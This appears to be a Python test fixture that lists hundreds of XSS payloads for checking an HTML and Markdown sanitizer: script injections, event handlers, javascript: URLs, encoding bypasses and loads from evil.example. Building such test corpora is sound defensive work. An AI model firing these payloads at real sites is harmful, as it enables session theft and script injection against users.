# ruff: noqa: E501 - one payload after the other reads better than one a line
"""Hostile texts by the trick that they try. Each is to come out as words, or as harmless markup."""

SCRIPT = "alert(document.domain)"

ELEMENTS = [
    f"<script>{SCRIPT}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>", f"<IMG SRC=`javascript:{SCRIPT}`>", "<img src=//evil.example/track.gif>",
    f"<svg onload={SCRIPT}>", f"<svg><script>{SCRIPT}</script></svg>", "<svg><a xlink:href='javascript:1'>x</a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>", "<math><a href='javascript:1'>x</a></math>",
    f"<body onload={SCRIPT}>", f"<iframe src=javascript:{SCRIPT}></iframe>", f"<iframe srcdoc='<script>{SCRIPT}</script>'>",
    "<object data=//evil.example/x.swf>", "<embed src=//evil.example/x.swf>", "<applet code=X>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import'//evil.example/x.css';</style>", "<style>p{background:url(//evil.example/t)}</style>",
    f"<form action=//evil.example><input name=x><button formaction=javascript:{SCRIPT}>x</button></form>",
    "<textarea></textarea><script>1</script>", "<title></title><script>1</script>", "<xmp><script>1</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror=1>'>", "<noembed><img src=x onerror=1></noembed>",
    "<plaintext>", "<template><script>1</script></template>", "<frameset onload=1>", "<details open ontoggle=1>x</details>",
    "<video><source onerror=1></video>", "<audio src=x onerror=1>", "<marquee onstart=1>x</marquee>", "<dialog open>x</dialog>",
    "<p style='position:fixed;inset:0;background:red'>x</p>", "<p class='button main' id='main'>x</p>", "<b>bold</b>",
    "<div hx-get='/account/logout/' hx-trigger='load'>x</div>", "<p hx-on:click='1' data-hx-post='/moderation/1/decide/'>x</p>",
    "<p data-focus data-trouble hidden>x</p>", "<a href='https://example.org' onclick=1 target=_blank download ping='//e.example'>x</a>",
    "<input autofocus onfocus=1>", "<select><option onclick=1></select>", "<table><tr><td background='javascript:1'></table>",
    "<blockquote cite='javascript:1'>x</blockquote>", "<q cite=//evil.example>x</q>", "<portal src=//evil.example>",
]  # fmt: skip

BROKEN = [
    "<", "<<", "</", "</p", "<p", "<a href=", "<a href='", "<!--", "<!-- <script>1</script> -->", "--><script>1</script>",
    "<!-->", "<!DOCTYPE html>", "<?php 1 ?>", "<?xml version='1.0'?>", "<![CDATA[<script>1</script>]]>", "<![if !IE]>x<![endif]>",
    "<script", "<script>", "</script>", "<a/href='javascript:1'/>", "<img/src=x/onerror=1>", "<\x00script>", "<scr\x00ipt>1</script>",
    "<svg/onload=1", "<a b='>' onclick=1>x</a>", "<a title='</a><script>1</script>'>x</a>", '"><script>1</script>', "'><img src=x onerror=1>",
    "</p></div></article><script>1</script>", "</li></ol></details><h1>x</h1>", "<p></p></p></p>", "<x onclick=1>x</x>",
]  # fmt: skip

ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript&#58;alert(1)", "jav&Tab;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "javascript\\:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>1</script>", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+", "DATA:image/svg+xml,x",
    "file:///etc/passwd", "ftp://evil.example/", "blob:https://example.org/x", "about:blank", "view-source:https://example.org",
    "intent://evil.example", "tel:+123", "sms:+123", "ws://evil.example", "feed:javascript:1", "mhtml:x", "livescript:1",
    "//evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/account/logout/", "/admin/", "../..", "?q=1",
    "#main", "x", "", "https:evil.example", "https:/evil.example", "https:///evil.example", "https:\\\\evil.example",
    "https://user:pass@evil.example/", "https://example.org@evil.example/", "http://[::1]:x", "https://evil.example\\@example.org",
    "mailto:a@b.example?subject=x&bcc=c@d.example", "mailto:", "mailto:x", "\u202ehttps://evil.example", "%6Aavascript:1",
    "&#x202e;https://example.org", "\u2028javascript:1", "javascript:/*--></title></style></textarea></script><svg/onload=1>*/",
]  # fmt: skip

IN_MARKDOWN = [
    "[a](javascript:alert(1)) ![a](javascript:alert(1))", "[a](<javascript:alert(1)>)", "[a]: javascript:alert(1)\n\n[a]",
    "[a][b]\n\n[b]: <javascript:alert(1)> 'title'", "![img](https://evil.example/track.png)", "![x][y]\n\n[y]: https://evil.example/t.png",
    "<javascript:alert(1)>", "<https://evil.example\" onclick=\"1>", "<https://example.org/<script>>", "<a@b.example>",
    "[<script>1</script>](https://example.org)", "[![x](https://evil.example/t)](https://example.org)", "[a](https://example.org \"onclick=1\")",
    "[a](https://example.org 'x\" onmouseover=\"1')", "[a](https://example.org/\"onclick=\"1)", "[a](https://example.org/'><script>)",
    "`<script>1</script>`", "``` html onclick=1\n<script>1</script>\n```", "```{.button #main onclick=1}\nx\n```", "~~~ {: style='x'}\nx\n~~~",
    "    <script>1</script>", "text\n{: onclick=1 }", "# head {: onclick=1 }", "# head\n<script>1</script>", "head\n===\n", "head\n---\n",
    "*<img src=x onerror=1>*", "**<script>**1**</script>**", "> <script>1</script>", "- <script>1</script>\n\n      <b>x</b>",
    "1. x\n<script>1</script>", "[TOC]", "[^1]\n\n[^1]: <script>1</script>", "*[abbr]: <script>", "|a|b|\n|-|-|\n|<script>|x|",
    "\\<script>1\\</script>", "&lt;script&gt;1&lt;/script&gt;", "&#60;script&#62;1&#60;/script&#62;", "&#x3c;script&#x3e;1", "&lt;img src=x onerror=1&gt;",
    "\x02klzzwxh:0000\x03", "\x02wzxhzdk:0\x03", "\x02amp\x03lt;script>", "\x0260\x03script>", "klzzwxh:0000", "&#2;wzxhzdk:0&#3;",
    "`\x02klzzwxh:0001\x03`<script>1</script>", "K 1<script>1</script>", "[K 1](javascript:1)", "K\u00a01\" onclick=\"1", "`K 1`",
    "https://example.org/<script>1</script>", "https://example.org/\"onclick=\"1", "https://example.org/'onclick='1", "https://e.example/)\"<b>",
    "http://\x02klzzwxh:0000\x03", "<https://e.example/`x`>", "[x](https://e.example/`x`)", "*https://e.example/*<*b*", "'';!--\"<XSS>=&{()}",
    "+ADw-script+AD4-1+ADw-/script+AD4-", "\ufeff<script>1</script>", "＜script＞1＜/script＞", "<ſcript>1</ſcript>", "<ıframe>", "%3Cscript%3E1",
]  # fmt: skip

LINKED = [
    form.format(address)
    for address in ADDRESSES
    for form in ("[x]({})", "[x](<{}>)", "<{}>", "{}", "[x]: {}\n\n[x]")
]
PAYLOADS = [*ELEMENTS, *BROKEN, *IN_MARKDOWN, *LINKED]
